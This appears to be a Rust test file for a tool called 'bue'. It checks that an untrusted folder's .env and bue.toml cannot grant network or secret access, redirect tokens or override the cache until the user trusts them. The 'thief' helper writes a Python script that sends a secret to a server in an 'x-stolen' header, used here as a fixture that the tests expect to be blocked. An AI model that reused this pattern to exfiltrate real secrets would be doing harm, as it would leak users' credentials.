//! Settings in the working directory, which may be the folder of somebody else.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Command;
use std::sync::atomic::Ordering;

use tempfile::TempDir;

use crate::network::server;
use crate::project::{CommandOutput, Project, cache_dir, finish, prepare, python};

const CANARY: &str = "canary-4d07";

/// A script whose step sends a secret to a server.
fn thief(server: &str) -> String {
    let code = format!(
        "import bue\nimport urllib.request\n\
         def steal():\n    \
             request = urllib.request.Request('http://{server}', headers={{'x-stolen': bue.secret('X')}})\n    \
             return urllib.request.urlopen(request).read().decode()"
    );
    format!("!allow net {server}\n!allow secret X\n{}", python("steal", &code, "steal()"))
}

/// Runs a command with these variables.
fn with(project: &Project, arguments: &[&str], variables: &[(&str, &str)]) -> CommandOutput {
    let mut command = project.command(arguments);
    command.envs(variables.iter().copied());
    finish(command)
}

/// `bue run` in a folder that came with settings: without a flag, nothing leaves the machine.
#[test]
fn the_settings_of_somebody_elses_folder_grant_nothing() {
    prepare();
    let (server, requests) = server();
    let project = Project::script(&thief(&server.to_string()));
    let settings = format!("[allow]\nnet = ['{server}']\n[secrets]\nX = {{ env = 'PRIVATE', readable = true }}\n");
    project.write_untrusted("bue.toml", &settings);
    project.write_untrusted(".env", "POSTGRES_HOST=db\nPIPE_WORKER_HOST=hub\nUNRELATED=1\n");
    let run = || with(&project, &["run", "x.bue", "--json"], &[("PRIVATE", CANARY)]);
    let output = run().expect_code(1);
    output.expect_stderr(&[
        "PIPE_WORKER_HOST, POSTGRES_HOST in .env",
        "allow.net, secrets.X in bue.toml",
        "typed `bue trust`",
    ]);
    assert_eq!(output.stderr.matches("warning").count(), 1, "{}", output.stderr);
    assert!(!format!("{}{}", output.stdout, output.stderr).contains(CANARY));
    assert_eq!(requests.load(Ordering::SeqCst), 0);

    // the same settings, once the user has read and trusted them
    let trusted = project.bue(&["trust"]).expect_code(0);
    trusted.expect_stderr(&[
        "bue.toml, which sets allow.net, secrets.X",
        ".env, which sets PIPE_WORKER_HOST, POSTGRES_HOST",
    ]);
    let output = run().expect_code(0);
    assert!(output.last().as_str().is_some_and(|text| text.contains(CANARY)), "{}", output.stdout);
    assert_eq!((requests.load(Ordering::SeqCst), output.stderr.contains("warning")), (1, false), "{}", output.stderr);
}

#[test]
fn trust_ends_with_a_change_and_when_it_is_revoked() {
    let project = Project::script("# nothing\n");
    project.write(".env", "BUE_HUB=127.0.0.1:1\n");
    let hub = |project: &Project| project.bue(&["status"]).expect_code(3).stderr;
    assert!(hub(&project).contains("127.0.0.1:1") && !hub(&project).contains("warning"), "{}", hub(&project));
    let line = || {
        let list = project.bue(&["trust", "--list"]).expect_code(0).stdout;
        let place = project.folder().path().canonicalize().expect("a folder");
        list.lines().find(|line| line.contains(&place.display().to_string())).unwrap_or_default().trim().to_owned()
    };
    assert!(line().ends_with("trusted"), "{}", line());
    // through a link, it is the same folder
    let elsewhere = TempDir::new().expect("a folder");
    symlink(project.folder().path(), elsewhere.path().join("link")).expect("a link");
    let mut linked = project.command(&["status"]);
    linked.current_dir(elsewhere.path().join("link"));
    assert!(finish(linked).stderr.contains("127.0.0.1:1"));

    project.write_untrusted(".env", "BUE_HUB=127.0.0.1:2\n");
    assert!(hub(&project).contains("BUE_HUB in .env, which has changed since you trusted it"));
    assert!(!hub(&project).contains("127.0.0.1:2") && line().ends_with("changed"), "{}", line());
    project.bue(&["trust"]).expect_code(0);
    assert!(hub(&project).contains("127.0.0.1:2"));
    project.bue(&["trust", "--revoke"]).expect_code(0).expect_stderr(&[".env is not trusted any more"]);
    assert!(hub(&project).contains("ignored BUE_HUB in .env;") && line().is_empty(), "{}", line());
    project.bue(&["trust", "--revoke"]).expect_code(1).expect_stderr(&["no file of . was trusted"]);
    Project::new(&[]).bue(&["trust"]).expect_code(1).expect_stderr(&["there is no .env and no bue.toml in ."]);
    // nothing is trusted of a folder with a file that cannot be read
    project.write_untrusted("bue.toml", "not toml");
    project.bue(&["trust"]).expect_code(2).expect_stderr(&["failed to parse ./bue.toml"]);
    assert!(line().is_empty(), "{}", line());
}

#[test]
fn harmless_settings_count_without_trust() {
    let project = Project::new(&[]);
    project.write_untrusted(".env", "REVERSE_PRIORITY=perhaps\n");
    let output = project.bue(&["worker", "-b", "127.0.0.1:1"]).expect_code(2);
    output.expect_stderr(&["perhaps", "BUE_REVERSE"]);
    assert!(!output.stderr.contains("warning"), "{}", output.stderr);
}

/// The token of the user, and the hub of a folder.
#[test]
fn a_token_goes_to_the_address_that_was_set_with_it() {
    let (server, requests) = server();
    let address = server.to_string();
    let project = Project::new(&[]);
    let status = |more: &[&str]| with(&project, &[&["status"], more].concat(), &[("BUE_TOKEN", "bue_mine")]);
    project.write_untrusted(".env", &format!("BUE_HUB={address}\n"));
    status(&[]).expect_stderr(&["ignored BUE_HUB in .env"]);
    project.bue(&["trust"]).expect_code(0);
    status(&[]).expect_code(2).expect_stderr(&[
        &format!("refused to send the token to {address}"),
        "Set both in the same place",
        &format!("`-b {address}`"),
    ]);
    let bucket = ["bucket-get", "a", "-b", "127.0.0.1:1"];
    project.write("bue.toml", &format!("[client]\nbucket = '{address}'\n"));
    with(&project, &bucket, &[("BUE_TOKEN", "bue_mine")]).expect_code(2).expect_stderr(&[&format!("`-k {address}`")]);
    assert_eq!(requests.load(Ordering::SeqCst), 0);

    // typed, or with the token of the same folder
    status(&["-b", &address]).expect_code(3);
    let typed = requests.load(Ordering::SeqCst);
    assert!(typed > 0);
    project.write("bue.toml", "[client]\ntoken = 'bue_of_the_folder'\n");
    status(&[]).expect_code(3);
    assert!(requests.load(Ordering::SeqCst) > typed);
    // the folder's token does not go to the user's hub either
    project.write(".env", "");
    let output = with(&project, &["status"], &[("BUE_HUB", &address)]).expect_code(2);
    output.expect_stderr(&["refused to send the token", "the address is set in the environment"]);
}

/// Code from the cache is executed, and a cache can come with a folder: even a trusted one names none.
#[test]
fn the_working_directory_never_names_the_cache() {
    prepare();
    let project = Project::script(&python("one", "def one():\n    return 1", "one()"));
    project.write(".env", &format!("BUE_CACHE_DIR={}\n", project.path("c").display()));
    project.write("bue.toml", "[cache]\ndir = 'c'\n");
    let caches = TempDir::new().expect("a folder");
    symlink(cache_dir(), caches.path().join("bue")).expect("a link");
    let mut command = project.command(&["run", "x.bue", "--json"]);
    command.env_remove("BUE_CACHE_DIR").env("XDG_CACHE_HOME", caches.path());
    let output = finish(command).expect_code(0);
    output.expect_stderr(&["`BUE_CACHE_DIR` in .env has no effect", "`cache.dir` in bue.toml has no effect"]);
    assert!(!project.path("c").exists());
}

#[test]
fn the_users_own_settings_need_no_trust() {
    let own = Project::new(&[]);
    own.write_untrusted("bue.toml", "[client]\nhub = '127.0.0.1:3'\n[worker]\nslots = 0\n");
    let project = Project::new(&[]);
    let config = own.folder().path().to_str().expect("UTF-8");
    let run = |arguments: &[&str]| with(&project, arguments, &[("BUE_CONFIG_DIR", config)]);
    let output = run(&["status"]).expect_code(3);
    assert!(output.stderr.contains("127.0.0.1:3") && !output.stderr.contains("warning"), "{}", output.stderr);
    run(&["worker"]).expect_code(2).expect_stderr(&["at least one slot"]);
    // the file of the working directory has precedence
    project.write("bue.toml", "[client]\nhub = '127.0.0.1:4'\n");
    run(&["status"]).expect_code(3).expect_stderr(&["127.0.0.1:4"]);
    // where both are the same file, it is the user's
    let mut command = own.command(&["status"]);
    command.env("BUE_CONFIG_DIR", config);
    assert!(finish(command).stderr.contains("127.0.0.1:3"));
}

/// The environment names a file. A relative name is one of the working directory.
#[test]
fn env_path_is_trusted_if_it_is_absolute() {
    let project = Project::new(&[]);
    project.write_untrusted("production.env", "BUE_HUB=127.0.0.1:5\n");
    let absolute = project.path("production.env");
    let status = |path: &Path| with(&project, &["status"], &[("ENV_PATH", path.to_str().expect("UTF-8"))]);
    let relative = Path::new("production.env");
    assert!(status(relative).stderr.contains("ignored BUE_HUB in production.env"));
    // the folder's own file is not read then
    project.write_untrusted(".env", "BUE_HUB=127.0.0.1:9\n");
    let output = status(&absolute).expect_code(3);
    assert!(output.stderr.contains("127.0.0.1:5") && !output.stderr.contains("warning"), "{}", output.stderr);
    with(&project, &["trust"], &[("ENV_PATH", "production.env")]).expect_code(0);
    assert!(status(relative).stderr.contains("127.0.0.1:5"));
}

/// They would lie in the working directory.
#[test]
fn the_users_folders_are_absolute() {
    let project = Project::new(&[("x.bue", "# nothing\n")]);
    project.write_untrusted(".env", "BUE_HUB=127.0.0.1:6\n");
    fs::create_dir(project.path("state")).expect("a folder");
    for name in ["BUE_STATE_DIR", "BUE_CONFIG_DIR"] {
        with(&project, &["status"], &[(name, "state")]).expect_code(2).expect_stderr(&[name, "absolute path"]);
    }
    let endless = Project::new(&[]);
    symlink("/dev/zero", endless.path(".env")).expect("a link");
    endless.bue(&["status"]).expect_code(3).expect_stderr(&["failed to read .env", "not a regular file"]);
    // opening it would wait for somebody who writes to it
    let waiting = Project::new(&[("x.bue", "# nothing\n")]);
    assert!(Command::new("mkfifo").arg(waiting.path(".env")).status().expect("mkfifo").success());
    waiting.bue(&["check", "x.bue"]).expect_code(3).expect_stderr(&["failed to read .env", "not a regular file"]);
}
